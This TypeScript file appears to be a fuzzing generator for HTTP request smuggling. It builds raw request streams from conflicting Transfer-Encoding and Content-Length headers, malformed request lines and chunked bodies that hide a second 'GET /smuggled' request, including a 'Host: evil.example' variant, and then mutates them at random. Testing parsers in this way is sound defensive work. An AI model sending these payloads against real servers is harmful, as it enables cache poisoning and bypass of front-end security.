import type { Random } from './random.ts'

/** Who sends it, for what and to whom. */
export interface StreamOf {
  readonly host: string
  readonly cookie: string
}

/** Ways to say that a body comes in chunks, and ways that only some readers take for it. */
const encodings = [
  'Transfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: CHUNKED',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding: \x00chunked',
  'Transfer-Encoding: chunked\x00',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding:\n chunked',
  'X: y\r\n Transfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  ' Transfer-Encoding: chunked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'TE: chunked',
  'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
  'Connection: close, Content-Length',
] as const

/** Ways to say how long it is; `N` stands for the true length. */
const lengths = [
  'Content-Length: N',
  'Content-Length: 0',
  'Content-Length: 5',
  'Content-Length: 99999',
  'Content-Length: N\r\nContent-Length: N',
  'Content-Length: N\r\nContent-Length: 0',
  'Content-Length: 0\r\nContent-Length: N',
  'Content-Length: N, N',
  'Content-Length: N, 0',
  'Content-Length: +N',
  'Content-Length: -1',
  'Content-Length: 0N',
  'Content-Length: 0xN',
  'Content-Length: N.0',
  'Content-Length: N\x00',
  'Content-Length: \x0bN',
  'Content-Length : N',
  'Content-Length:\r\n N',
  'Content-Length: 18446744073709551617',
  'Content_Length: N',
  'Content-Length:',
  '',
] as const

/** Parts that a request stands or falls with, each by itself. */
const oddities = [
  ...[
    'Host: evil.example',
    'Host : x',
    'X: \x00',
    'X: \x7f',
    'X: a\rb',
    'X\x00: y',
    ': y',
    'X',
    'X y: z',
    '\x01: y',
  ],
  ...[
    'Expect: 100-continue',
    'Expect: x',
    'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk',
  ],
  ...[
    'Upgrade: websocket\r\nConnection: Upgrade',
    'Connection: close',
    'Connection: keep-alive, Host',
    'Trailer: Host',
  ],
  ...[
    'Range: bytes=0-',
    'X-HTTP-Method-Override: DELETE',
    'Content-Type: application/json',
    `X: ${'a'.repeat(9000)}`,
  ],
  ...[
    `X: ${'a'.repeat(70_000)}`,
    Array.from({ length: 150 }, (_, at) => `X${at}: y`).join('\r\n'),
    'X: y\r\n\tz',
  ],
] as const

const lines = [
  'GET T HTTP/1.1',
  'POST T HTTP/1.1',
  'POST T HTTP/1.0',
  'GET T HTTP/1.0',
  'GET T',
  'GET  T  HTTP/1.1',
  'GET\tT\tHTTP/1.1',
  'GET T HTTP/1.2',
  'GET T HTTP/2.0',
  'GET T HTTP/1.1 ',
  ' GET T HTTP/1.1',
  '\r\nGET T HTTP/1.1',
  '\nGET T HTTP/1.1',
  'GET T HTTP/11',
  'get T HTTP/1.1',
  'GET T\x00 HTTP/1.1',
  'GET T\x0b HTTP/1.1',
  'GET T#x HTTP/1.1',
  'GET T x HTTP/1.1',
  'GET https://evil.exampleT HTTP/1.1',
  'GET //T HTTP/1.1',
  'OPTIONS * HTTP/1.1',
  'CONNECT T:443 HTTP/1.1',
  'TRACE T HTTP/1.1',
  'PRI * HTTP/2.0',
  'HEAD T HTTP/1.1',
  'DELETE T HTTP/1.1',
  `GET T${'a'.repeat(9000)} HTTP/1.1`,
  'GET http:T HTTP/1.1',
] as const

const inner = (of: StreamOf) => request(of, { line: 'GET /smuggled HTTP/1.1', more: ['X-Inner: y'] })

/** What stands behind the head: whole, damaged, and with a request in it. */
function bodiesOf(of: StreamOf): string[] {
  const hidden = inner(of)
  const size = Buffer.byteLength(hidden, 'latin1').toString(16)
  return [
    '',
    'x=y',
    hidden,
    `0\r\n\r\n${hidden}`,
    `0\r\nX: y\r\n\r\n${hidden}`,
    `${size}\r\n${hidden}\r\n0\r\n\r\n`,
    `3\r\nx=y\r\n0\r\n\r\n${hidden}`,
    `3;a=b\r\nx=y\r\n0;"\r\n\r\n"\r\n\r\n${hidden}`,
    `3;\nx=y\r\n0\r\n\r\n${hidden}`,
    `3\nx=y\n0\n\n${hidden}`,
    `3\rx=y\r0\r\r${hidden}`,
    `0x3\r\nx=y\r\n0\r\n\r\n${hidden}`,
    `+3\r\nx=y\r\n0\r\n\r\n${hidden}`,
    ` 3\r\nx=y\r\n0\r\n\r\n${hidden}`,
    `3 \r\nx=y\r\n0\r\n\r\n${hidden}`,
    `10000000000000003\r\nx=y\r\n0\r\n\r\n${hidden}`,
    `ffffffffffffffff\r\nx=y\r\n0\r\n\r\n${hidden}`,
    `-1\r\nx=y\r\n0\r\n\r\n${hidden}`,
    `3\r\nx=yz\r\n0\r\n\r\n${hidden}`,
    `3\r\nx=y0\r\n\r\n${hidden}`,
    `\r\n0\r\n\r\n${hidden}`,
    `${'0'.repeat(300)}3\r\nx=y\r\n0\r\n\r\n${hidden}`,
    `3;${'a'.repeat(9000)}\r\nx=y\r\n0\r\n\r\n${hidden}`,
    `0\r\n${'X: y\r\n'.repeat(200)}\r\n${hidden}`,
    `0\r\nHost: evil.example\r\nContent-Length: 5\r\n\r\n${hidden}`,
  ]
}

interface Parts {
  readonly line: string
  readonly more: readonly string[]
  readonly body?: string
  readonly end?: string
}

function request({ host, cookie }: StreamOf, { line, more, body = '', end = '\r\n' }: Parts): string {
  const length = String(Buffer.byteLength(body, 'latin1'))
  const head = [
    line.replace(/(?<![A-Z])T(?![A-Z])/, '/auth/login/?stream'),
    `Host: ${host}`,
    `Cookie: ${cookie}`,
    ...more.filter((each) => each !== '').map((each) => each.replaceAll('N', length)),
  ]
  return `${head.join(end)}${end}${end}${body}`
}

/** The streams that were made by hand: each way of one part, and of two that contradict each other. */
export function knownStreams(of: StreamOf): string[] {
  const post = 'POST T HTTP/1.1'
  const bodies = bodiesOf(of)
  const chunked = '3\r\nx=y\r\n0\r\n\r\n'
  const two = (first: string) => `${first}${inner(of)}`
  const found = [
    ...bodies.flatMap((body) =>
      [encodings[0], lengths[0]].map((more) => request(of, { line: post, more: [more], body })),
    ),
    ...encodings.flatMap((encoding) =>
      lengths
        .slice(0, 4)
        .map((length) =>
          request(of, { line: post, more: [encoding, length], body: `0\r\n\r\n${inner(of)}` }),
        ),
    ),
    ...encodings.map((encoding) => request(of, { line: post, more: [encoding], body: chunked })),
    ...lengths.flatMap((length) => [
      request(of, { line: post, more: [length], body: inner(of) }),
      request(of, { line: post, more: [length, encodings[0]], body: `0\r\n\r\n${inner(of)}` }),
      request(of, { line: 'GET T HTTP/1.1', more: [length], body: inner(of) }),
    ]),
    ...lines.flatMap((line) => [
      two(request(of, { line, more: [] })),
      request(of, { line, more: [lengths[0]], body: inner(of) }),
    ]),
    ...oddities.flatMap((more) => [
      two(request(of, { line: 'GET T HTTP/1.1', more: [more] })),
      request(of, { line: post, more: [more, encodings[0]], body: chunked }),
    ]),
    ...['\n', '\r', '\n\r', '\r\r\n', '\r\n '].flatMap((end) => [
      two(request(of, { line: 'GET T HTTP/1.1', more: [], end })),
      request(of, { line: post, more: [encodings[0]], body: chunked, end }),
    ]),
    inner(of).repeat(20),
    `${inner(of).repeat(3)}GET /`,
    `${'\r\n'.repeat(50)}${inner(of)}`,
  ]
  return [...new Set(found)]
}

/** One of them with some bytes or lines changed, lost, doubled or exchanged. */
export function mutatedStream(known: readonly string[], random: Random): string {
  let text = random.pick(known)
  for (let changes = 1 + random.below(3); changes > 0; changes--) text = mutated(text, known, random)
  return text.slice(0, 100_000)
}

function mutated(text: string, known: readonly string[], random: Random): string {
  const at = random.below(Math.max(1, text.length))
  const put = (between: string, instead = 0) => text.slice(0, at) + between + text.slice(at + instead)
  const ends = [...text.matchAll(/\r\n|\n|\r/g)].map(({ index }) => index)
  const end = ends.length === 0 ? 0 : random.pick(ends)
  const other = random.pick(known)
  switch (random.below(10)) {
    case 0:
      return put(String.fromCharCode(text.charCodeAt(at) ^ (1 << random.below(8))), 1)
    case 1:
      return put(
        random.pick([
          '\0',
          '\r',
          '\n',
          '\r\n',
          ' ',
          '\t',
          ':',
          ';',
          '0',
          '\x0b',
          '\x80',
          '\xff',
          ',',
          '\r\n\r\n',
        ]),
      )
    case 2:
      return put('', 1 + random.below(4))
    case 3:
      return (
        text.slice(0, end) +
        random.pick(['\n', '\r', '\r\r\n', '\n\r', '\r\n\t', ' \r\n', '\0\r\n']) +
        text.slice(end + 2)
      )
    case 4:
      return `${text.slice(0, end)}\r\n${random.pick([...encodings, ...lengths, ...oddities]).replaceAll('N', String(random.below(200)))}${text.slice(end)}`
    case 5:
      return text.slice(0, at) + other.slice(random.below(other.length))
    case 6:
      return text + other
    case 7:
      return text.slice(0, at)
    case 8:
      return put(text.slice(at, at + random.below(80)))
    default:
      return text.replace(/\d+/, () => String(random.below(300)))
  }
}
